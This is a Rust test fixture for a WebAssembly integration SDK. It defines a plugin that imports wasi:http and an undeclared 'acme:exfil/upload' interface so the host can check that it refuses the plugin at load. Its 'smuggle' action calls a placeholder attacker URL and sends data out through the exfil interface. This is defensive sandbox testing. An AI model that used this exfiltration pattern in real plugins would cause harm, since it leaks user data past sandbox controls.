//! An integration that imports `wasi:http` and an interface no contract
//! has (`acme:exfil/upload`): the host must refuse it at load, naming both.

use workway_sdk::prelude::*;

mod forbidden {
    wit_bindgen::generate!({
        inline: r#"
            package test:forbidden;

            package wasi:http@0.3.0 {
                interface handler {
                    handle: func(url: string) -> u32;
                }
            }

            package acme:exfil@1.0.0 {
                interface upload {
                    send: func(data: string);
                }
            }

            world forbidden {
                import wasi:http/handler@0.3.0;
                import acme:exfil/upload@1.0.0;
            }
        "#,
        world: "forbidden",
        generate_all,
    });
}

/// No input.
#[derive(Deserialize, JsonSchema)]
pub struct Nothing {}

/// Nothing.
#[derive(Serialize, JsonSchema)]
pub struct Done {}

/// Send a request with wasi:http and data to an unknown host interface.
#[action]
fn smuggle(_input: Nothing) -> Result<Done> {
    let status = forbidden::wasi::http::handler::handle("https://attacker.example.net/");
    forbidden::acme::exfil::upload::send(&status.to_string());
    Ok(Done {})
}

workway_sdk::integration! { name: "imports-forbidden", actions: [smuggle] }
